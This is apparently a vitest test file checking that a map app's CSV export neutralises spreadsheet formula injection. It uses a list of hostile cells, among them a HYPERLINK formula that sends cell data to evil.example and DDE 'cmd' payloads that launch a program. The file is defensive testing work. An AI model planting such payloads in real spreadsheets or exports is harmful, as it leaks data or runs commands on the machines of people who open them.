import { HOSTILE_TEXT, HOSTILE_URLS } from '@saxon-ai/demo-api';
import { describe, expect, it } from 'vitest';
import topics from '../data/topics.json' with { type: 'json' };
import { parseCsv } from '../src/io/csv.js';
import { exportActorsCsv, exportActorsGeoJson, neutralizeCell } from '../src/io/export.js';
import { parseImport } from '../src/io/import.js';
import type { Actor } from '../src/model.js';
import { contractValidator } from './contract-schema.js';

const FORMULAS = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Klick")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  '-1+1',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  "'=1+1",
  "''already marked",
  "'s Gärtle",
  '=1+1\n=2+2',
];
const HOSTILE = [...FORMULAS, ...HOSTILE_TEXT];

function hostileActor(index: number): Actor {
  const text = (offset: number) => HOSTILE[(index + offset) % HOSTILE.length]!;
  return {
    id: `hostile-${index}`,
    name: text(0),
    category: 'research',
    subtype: text(1),
    description: text(2),
    topics: ['robotics'],
    offers: [],
    address: { street: text(3), city: text(4), postalCode: '01069', ags: '14612' },
    location: { lat: 51.05, lon: 13.74, precision: 'address' },
    website:
      index % 3 === 0 ? HOSTILE_URLS[index % HOSTILE_URLS.length]! : `https://example.org/${index}`,
    email: index % 3 === 1 ? text(5) : `kontakt-${index}@example.org`,
    updatedAt: '2026-10-01T09:00:00+02:00',
  };
}
const hostileActors = HOSTILE.map((_, index) => hostileActor(index));

describe('exportActorsCsv', () => {
  const csv = exportActorsCsv(hostileActors);

  it('writes UTF-8 with a BOM, ";" and CRLF for German Excel, with the import’s German headers', () => {
    expect(
      csv.startsWith(
        '\uFEFFName;Kategorie;Art;Themen;Straße;PLZ;Ort;AGS;Breitengrad;Längengrad;Genauigkeit;Webseite;E-Mail;Beschreibung;Angebote;ID;Aktualisiert\r\n',
      ),
    ).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
  });

  it('leaves no cell of a hostile corpus that a spreadsheet would run as a formula', () => {
    const records = parseCsv(csv.slice(1), ';');
    expect(records).toHaveLength(hostileActors.length + 1);
    const cells = records.slice(1).flatMap((record) => record.cells);
    expect(cells.length).toBe(hostileActors.length * 17);
    const dangerous = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell));
    expect(dangerous).toEqual([]);
    // Each formula reached a cell, marked as text.
    for (const formula of FORMULAS.filter((f) => /^[=+\-@\t\r]/.test(f)))
      expect(cells).toContain(`'${formula}`);
  });

  it('neutralises exactly the cells a spreadsheet would evaluate', () => {
    expect(neutralizeCell('=1')).toBe("'=1");
    expect(neutralizeCell('@x')).toBe("'@x");
    expect(neutralizeCell('\tx')).toBe("'\tx");
    expect(neutralizeCell("'=1")).toBe("''=1");
    expect(neutralizeCell('Dresden')).toBe('Dresden');
    expect(neutralizeCell("'s Gärtle")).toBe("'s Gärtle");
    expect(neutralizeCell('51,05')).toBe('51,05');
  });

  it('round-trips every hostile actor the import accepts through CSV unchanged', () => {
    const knownTopics = new Set(topics.map((topic) => topic.id));
    const json = parseImport(new TextEncoder().encode(JSON.stringify(hostileActors)), {
      fileName: 'a.json',
      knownTopics,
    });
    // Sanity: the corpus has both kinds, values the import takes and values it refuses.
    expect(json.actors.length).toBeGreaterThan(10);
    expect(json.rejected.length).toBeGreaterThan(10);
    const again = parseImport(new TextEncoder().encode(exportActorsCsv(json.actors)), {
      fileName: 'a.csv',
      knownTopics,
    });
    expect(again.rejected).toEqual([]);
    expect(again.actors).toEqual(json.actors);
  });

  it('writes English headers, "," and decimal points with language en', () => {
    const english = exportActorsCsv([hostileActors[20]!], { language: 'en' });
    expect(english.split('\r\n')[0]).toBe(
      '\uFEFFName,Category,Subtype,Topics,Street,Postal code,City,AGS,Latitude,Longitude,Precision,Website,Email,Description,Offers,ID,Updated',
    );
    expect(english).toContain(',51.05,13.74,address,');
  });
});

describe('exportActorsGeoJson', () => {
  it('answers the contract’s ActorFeatureCollection, longitude first', async () => {
    const validate = await contractValidator('ActorFeatureCollection');
    const collection = exportActorsGeoJson(hostileActors.slice(0, 3));
    expect(validate(collection), JSON.stringify(validate.errors)).toBe(true);
    expect(collection.features[0]!.geometry.coordinates).toEqual([13.74, 51.05]);
  });
});
